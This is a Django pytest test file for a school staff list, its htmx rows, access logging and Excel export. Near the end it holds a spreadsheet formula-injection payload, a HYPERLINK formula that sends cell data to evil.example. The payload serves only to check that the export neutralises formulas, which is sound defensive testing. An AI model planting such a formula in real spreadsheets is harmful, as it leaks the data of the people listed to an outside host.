"""The people list, its htmx rows and the Excel export."""

from datetime import date, datetime

import pytest
from django.urls import reverse
from pytest_django.asserts import assertContains, assertNotContains

from core.tests.utils import sheet_title, xlsx_rows, xlsx_text_cells
from people.models import PersonViewLog
from people.tests.factories import PersonFactory, PositionFactory

LIST = reverse("people:list")
EXPORT = reverse("people:export")
HEADERS = [
    "Фамилия",
    "Имя",
    "Отчество",
    "Организация",
    "Должность",
    "Административная должность",
    "В должности с",
    "Управленческий стаж, лет",
    "Педагогический стаж, лет",
    "Электронная почта",
    "Телефон",
]


@pytest.fixture
def staff(municipality, school, other_school, far_school):
    """Иванов and Семёнов in School, Петрова in Other school, Иванова far away."""
    director = PositionFactory(
        municipality=municipality, name="Директор", is_administrative=True
    )
    teacher = PositionFactory(municipality=municipality, name="Учитель")
    return {
        "ivanov": PersonFactory(
            organization=school,
            position=director,
            last_name="Иванов",
            first_name="Иван",
            middle_name="Петрович",
            position_since=date(2020, 9, 1),
            management_experience=12,
            teaching_experience="20.5",
            email="ivanov@example.ru",
        ),
        "semenov": PersonFactory(
            organization=school,
            position=teacher,
            last_name="Семёнов",
            first_name="Пётр",
            middle_name="",
        ),
        "petrova": PersonFactory(
            organization=other_school,
            position=teacher,
            last_name="Петрова",
            first_name="Анна",
        ),
        "far": PersonFactory(
            organization=far_school, last_name="Иванова", first_name="Мария"
        ),
    }


def _names(response):
    return [p.last_name for p in response.context["page"].object_list]


def test_list_redirects_anonymous_to_login(client, db):
    response = client.get(LIST)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_list_shows_coordinator_the_people_of_the_municipality(
    client, coordinator, staff
):
    client.force_login(coordinator)

    response = client.get(LIST)

    assertContains(response, "<h1>Люди</h1>", html=True)
    assertContains(response, "Найдено 3 работника")
    assertContains(response, "Иванов Иван Петрович")
    assertContains(response, "Семёнов Пётр")
    assertContains(response, "Петрова Анна")
    assertNotContains(response, "Иванова Мария")
    assertContains(response, "Добавить работника")


def test_list_marks_administrative_positions(client, coordinator, staff):
    client.force_login(coordinator)

    response = client.get(LIST)

    assertContains(response, 'Директор <span class="badge">адм.</span>', html=True)


def test_list_shows_head_only_own_staff(client, head, staff):
    client.force_login(head)

    response = client.get(LIST)

    assert set(_names(response)) == {"Head", "Иванов", "Семёнов"}
    assertNotContains(response, "Добавить работника")


def test_list_shows_mentor_only_themselves(client, mentor, staff):
    client.force_login(mentor)

    response = client.get(LIST)

    assertContains(response, "Найден 1 работник")
    assert _names(response) == ["Mentor"]


def test_list_shows_stranger_nothing_of_town(client, stranger, staff):
    client.force_login(stranger)

    assert _names(client.get(LIST)) == ["Иванова"]


@pytest.mark.parametrize(
    ("q", "found"),
    [
        ("иванов", ["Иванов"]),
        ("ИВАНОВ", ["Иванов"]),
        ("Иванов Иван", ["Иванов"]),
        ("семенов", ["Семёнов"]),
        ("СЕМЁНОВ", ["Семёнов"]),
        ("пётр", ["Иванов", "Петрова", "Семёнов"]),
        ("петр", ["Иванов", "Петрова", "Семёнов"]),
        ("сидоров", []),
    ],
)
def test_list_search_ignores_case_and_yo(client, coordinator, staff, q, found):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": q})

    assert sorted(_names(response)) == sorted(found)


def test_list_filters_by_organization(client, coordinator, staff, other_school):
    client.force_login(coordinator)

    response = client.get(LIST, {"organization": other_school.pk})

    assert _names(response) == ["Петрова"]


def test_list_filters_by_position(client, coordinator, staff):
    client.force_login(coordinator)

    response = client.get(LIST, {"position": staff["semenov"].position_id})

    assert _names(response) == ["Петрова", "Семёнов"]


@pytest.mark.parametrize(
    ("administrative", "found"),
    [("yes", ["Иванов"]), ("no", ["Петрова", "Семёнов"])],
)
def test_list_filters_by_administrative_position(
    client, coordinator, staff, administrative, found
):
    client.force_login(coordinator)

    response = client.get(LIST, {"administrative": administrative})

    assert _names(response) == found


def test_list_ignores_an_organization_out_of_scope(
    client, coordinator, staff, far_school
):
    client.force_login(coordinator)

    response = client.get(LIST, {"organization": far_school.pk})

    assert response.status_code == 200
    assert "Иванова" not in _names(response)


def test_list_htmx_request_returns_only_the_rows(client, coordinator, staff):
    client.force_login(coordinator)

    response = client.get(LIST, {"q": "иванов"}, headers={"HX-Request": "true"})

    content = response.content.decode()
    assert "<html" not in content
    assert "<form" not in content
    assert content.lstrip().startswith('<p class="muted">Найден 1 работник</p>')
    assert "Иванов Иван Петрович" in content
    assert "HX-Request" in response["Vary"]


def test_list_export_link_carries_the_filters(client, coordinator, staff):
    client.force_login(coordinator)

    response = client.get(LIST, {"administrative": "yes"})

    assertContains(response, f'href="{EXPORT}?administrative=yes"')


def test_export_is_an_xlsx_of_the_people_in_scope(client, coordinator, staff):
    client.force_login(coordinator)

    response = client.get(EXPORT)

    assert response["Content-Disposition"] == 'attachment; filename="people.xlsx"'
    assert sheet_title(response) == "Люди"
    header, *rows = xlsx_rows(response)
    assert header == HEADERS
    assert [row[0] for row in rows] == ["Иванов", "Петрова", "Семёнов"]
    assert rows[0] == [
        "Иванов",
        "Иван",
        "Петрович",
        "School",
        "Директор",
        "да",
        datetime(2020, 9, 1),
        12,
        20.5,
        "ivanov@example.ru",
        None,
    ]


def test_export_logs_one_access_per_exported_person(client, coordinator, staff):
    client.force_login(coordinator)

    client.get(EXPORT)

    logs = PersonViewLog.objects.all()
    assert sorted(log.person.last_name for log in logs) == [
        "Иванов",
        "Петрова",
        "Семёнов",
    ]
    assert {(log.user, log.channel) for log in logs} == {
        (coordinator, PersonViewLog.Channel.EXPORT)
    }


def test_export_applies_the_filters_of_the_list(client, coordinator, staff):
    client.force_login(coordinator)

    response = client.get(EXPORT, {"q": "ПЁТР", "administrative": "no"})

    _header, *rows = xlsx_rows(response)
    assert [row[0] for row in rows] == ["Петрова", "Семёнов"]


def test_export_gives_head_only_own_staff(client, head, staff):
    client.force_login(head)

    _header, *rows = xlsx_rows(client.get(EXPORT))

    assert {row[0] for row in rows} == {"Head", "Иванов", "Семёнов"}


def test_export_redirects_anonymous_to_login(client, db):
    assert client.get(EXPORT).status_code == 302


def _people(municipality, school, other_school, n):
    positions = [
        PositionFactory(municipality=municipality, is_administrative=bool(i % 2))
        for i in range(3)
    ]
    for i in range(n):
        PersonFactory(
            organization=(school, other_school)[i % 2], position=positions[i % 3]
        )


# Budget: session, user, roles, linked person, count, organisation choices,
# position choices, rows, the access log's INSERT.
LIST_QUERIES = 9


@pytest.mark.parametrize("n", [3, 40])
def test_list_query_count_does_not_grow_with_rows(
    client,
    coordinator,
    municipality,
    school,
    other_school,
    django_assert_max_num_queries,
    n,
):
    _people(municipality, school, other_school, n)
    client.force_login(coordinator)

    with django_assert_max_num_queries(LIST_QUERIES):
        assert client.get(LIST).status_code == 200


@pytest.mark.parametrize("n", [3, 40])
def test_list_rows_query_count_does_not_grow_with_rows(
    client,
    coordinator,
    municipality,
    school,
    other_school,
    django_assert_max_num_queries,
    n,
):
    _people(municipality, school, other_school, n)
    client.force_login(coordinator)

    with django_assert_max_num_queries(LIST_QUERIES):
        response = client.get(
            LIST, {"administrative": "yes"}, headers={"HX-Request": "true"}
        )
        assert response.status_code == 200


# Budget: session, user, roles, linked person, rows (one iterator chunk),
# access log (one INSERT).
EXPORT_QUERIES = 6


@pytest.mark.parametrize("n", [3, 40])
def test_export_query_count_does_not_grow_with_rows(
    client,
    coordinator,
    municipality,
    school,
    other_school,
    django_assert_max_num_queries,
    n,
):
    _people(municipality, school, other_school, n)
    client.force_login(coordinator)

    with django_assert_max_num_queries(EXPORT_QUERIES):
        response = client.get(EXPORT)

    assert len(xlsx_rows(response)) == n + 1


FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'


def test_export_writes_a_formula_like_name_as_text(client, coordinator, school):
    PersonFactory(organization=school, last_name=FORMULA, first_name="+1")
    client.force_login(coordinator)

    response = client.get(EXPORT)

    for text in (FORMULA, "+1"):
        (cell,) = xlsx_text_cells(response, text)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_export_of_a_name_with_a_control_character_saved_before_the_check(
    client, coordinator, school
):
    PersonFactory(organization=school, last_name="Ива\x07нов")
    client.force_login(coordinator)

    response = client.get(EXPORT)

    assert response.status_code == 200
    assert xlsx_text_cells(response, "Иванов")


def test_list_logs_the_people_on_its_page_only(client, coordinator, staff):
    client.force_login(coordinator)
    assert client.get(LIST, {"q": "Иванов"}).status_code == 200
    logs = PersonViewLog.objects.all()
    assert {log.person for log in logs} == {staff["ivanov"]}
    assert {(log.user, log.channel, log.source) for log in logs} == {
        (coordinator, PersonViewLog.Channel.LIST, LIST)
    }
